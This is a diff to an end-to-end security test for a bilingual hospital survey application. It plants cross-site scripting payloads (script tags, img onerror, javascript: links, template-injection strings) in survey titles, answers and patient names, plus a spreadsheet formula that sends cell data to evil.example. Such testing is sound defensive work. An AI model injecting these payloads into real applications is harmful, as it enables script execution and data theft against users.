@@ -17,12 +17,15 @@ const ATTACK = [
   `<a href="javascript:${MARK}">`,
   `{{constructor.constructor('${MARK}')()}}`,
 ].join("");
+/** The same where only a hundred letters fit. */
+const SHORT_ATTACK = `</title><script>${MARK}</script><img src=x onerror=${MARK}>`;
 /** What a spreadsheet would run. */
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
 
 const templates = "/api/surveys/templates/";
 const journeys = "/api/journeys/templates/";
 
+const title = { ar: `Survey ${SHORT_ATTACK}`, en: `Survey ${SHORT_ATTACK}` };
 const text = (name) => ({ ar: `${name} ${ATTACK}`, en: `${name} ${ATTACK}` });
 const choices = (...keys) => keys.map((key) => ({ key, label: text(key) }));
 const ends = { low: text("low"), high: text("high") };
@@ -50,7 +53,7 @@ const QUESTIONS = Object.entries({
 const ANSWERS = {
   nps: 2, rating: 1, csat: 1, ces: 1, single: "a", multiple: ["a"], ranking: ["b", "a"],
   "matrix.a": 1, "matrix.b": 2, yes_no: false, words: `${FORMULA} ${ATTACK}`, day: "2026-11-01",
-  agreed: true, "reach.name": ATTACK, "reach.mobile": "0512345678",
+  agreed: true, "reach.name": SHORT_ATTACK, "reach.mobile": "0512345678",
 };
 
 /** Fails when anything ran in any frame of the page. */
@@ -76,15 +79,15 @@ describe("what somebody wrote", () => {
   let invited;
 
   before(async () => {
-    await api.create("admin", templates, { title: text("Survey") });
+    await api.create("admin", templates, { title });
     const { items } = await api.get("admin", templates);
-    survey = items.find(({ title }) => title.en.startsWith("Survey x")).id;
+    survey = items.find(({ name }) => name.en.startsWith("Survey <")).id;
     const draft = await api.get("admin", `${templates}${survey}/`);
-    const content = { ...draft.content, title: text("Survey"), introduction: text("Why"), questions: QUESTIONS };
+    const content = { ...draft.content, title, introduction: text("Why"), questions: QUESTIONS };
     await api.put("admin", `${templates}${survey}/`, { lock_version: draft.lock_version, content });
     await api.post("admin", `${templates}${survey}/publish/`, { lock_version: draft.lock_version + 1 });
     journey = await sendFrom(survey);
-    invited = await api.invite({ hospital: HOSPITAL, patient: { name_ar: ATTACK, name_en: ATTACK } });
+    invited = await api.invite({ hospital: HOSPITAL, patient: { name_ar: SHORT_ATTACK, name_en: SHORT_ATTACK } });
   });
 
   after(async () => {
@@ -135,7 +138,7 @@ describe("what somebody wrote", () => {
     });
     assert.equal(handedIn.status, 200, await handedIn.text());
     const { items: patients } = await api.get("admin", "/api/organizations/patients/?search=script");
-    const patient = patients.find(({ name_en }) => name_en === ATTACK) ?? patients[0];
+    const patient = patients.find(({ name_en }) => name_en === SHORT_ATTACK) ?? patients[0];
     assert.ok(patient, "the patient can be found");
     for (const language of ["ar", "en"]) {
       await browser.visit({ as: "admin", language }, async (visitor) => {
